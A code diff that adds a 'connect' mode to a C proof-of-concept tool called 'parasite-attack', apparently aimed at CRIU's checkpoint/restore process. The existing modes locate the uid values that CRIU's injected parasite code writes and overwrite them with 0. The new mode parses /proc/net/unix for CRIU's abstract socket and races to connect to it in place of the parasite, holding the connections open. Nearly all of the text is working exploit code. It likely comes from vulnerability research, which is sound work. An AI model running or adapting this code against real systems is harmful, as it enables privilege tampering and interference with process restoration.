@@ -5,6 +5,8 @@
  *	parasite-attack victim FILE             says in FILE who it is, again and again
  *	parasite-attack learn PID SECONDS       prints where CRIU's code in PID puts its uids
  *	parasite-attack attack PID SECONDS AT   writes 0 there, as often as it can
+ *	parasite-attack connect SECONDS         connects to CRIU in place of that code, and is
+ *silent
  *
  * CRIU asks a frozen process who it is by code that it maps into it, from a memfd; the answers go
  *to memory that is mapped with it. The last two forms run as the same user and have the process's
@@ -15,11 +17,14 @@
 #include <sched.h>
 #include <signal.h>
 #include <stdbool.h>
+#include <stddef.h>
 #include <stdint.h>
 #include <stdio.h>
 #include <stdlib.h>
 #include <string.h>
 #include <sys/prctl.h>
+#include <sys/socket.h>
+#include <sys/un.h>
 #include <time.h>
 #include <unistd.h>
 
@@ -155,16 +160,65 @@ static void attack(pid_t pid, int seconds, long at)
 	printf("written %lu\n", n);
 }
 
+/* The names of sockets are in /proc/net/unix; "@" is the first byte of an abstract one. */
+static bool find_socket(int list, struct sockaddr_un *ret, socklen_t *ret_size)
+{
+	static char text[1 << 20];
+	size_t n = 0;
+	ssize_t got;
+	char *name, *end;
+
+	lseek(list, 0, SEEK_SET);
+	while ((got = read(list, text + n, sizeof(text) - 1 - n)) > 0)
+		n += (size_t)got;
+	text[n] = '\0';
+	name = strstr(text, "@/crtools-pr-");
+	end = name ? strchr(name, '\n') : NULL;
+	if (!end || (size_t)(end - name) >= sizeof(ret->sun_path))
+		return false;
+	*ret = (struct sockaddr_un){ .sun_family = AF_UNIX };
+	memcpy(ret->sun_path + 1, name + 1, (size_t)(end - name) - 1);
+	*ret_size = (socklen_t)(offsetof(struct sockaddr_un, sun_path) + (size_t)(end - name));
+	return true;
+}
+
+static void intrude(int seconds)
+{
+	time_t until = time(NULL) + seconds;
+	int list = open("/proc/net/unix", O_RDONLY | O_CLOEXEC), n = 0;
+	struct sockaddr_un name;
+	socklen_t size;
+
+	puts("ready");
+	fflush(stdout);
+	while (time(NULL) < until && n < 500) {
+		int sock;
+
+		if (!find_socket(list, &name, &size))
+			continue;
+		/* It stays open. */
+		sock = socket(AF_UNIX, SOCK_SEQPACKET | SOCK_NONBLOCK, 0);
+		if (connect(sock, (struct sockaddr *)&name, size) == 0) {
+			printf("connected %d\n", ++n);
+			fflush(stdout);
+		} else {
+			close(sock);
+		}
+	}
+}
+
 int main(int argc, char **argv)
 {
 	if (argc == 3 && !strcmp(argv[1], "victim"))
 		victim(argv[2]);
-	if (argc == 4 && !strcmp(argv[1], "learn"))
+	if (argc == 3 && !strcmp(argv[1], "connect"))
+		intrude(atoi(argv[2]));
+	else if (argc == 4 && !strcmp(argv[1], "learn"))
 		learn(atoi(argv[2]), atoi(argv[3]));
 	else if (argc == 5 && !strcmp(argv[1], "attack"))
 		attack(atoi(argv[2]), atoi(argv[3]), atol(argv[4]));
 	else
 		errx(2, "usage: parasite-attack victim FILE | learn PID SECONDS | "
-			"attack PID SECONDS AT");
+			"attack PID SECONDS AT | connect SECONDS");
 	return 0;
 }
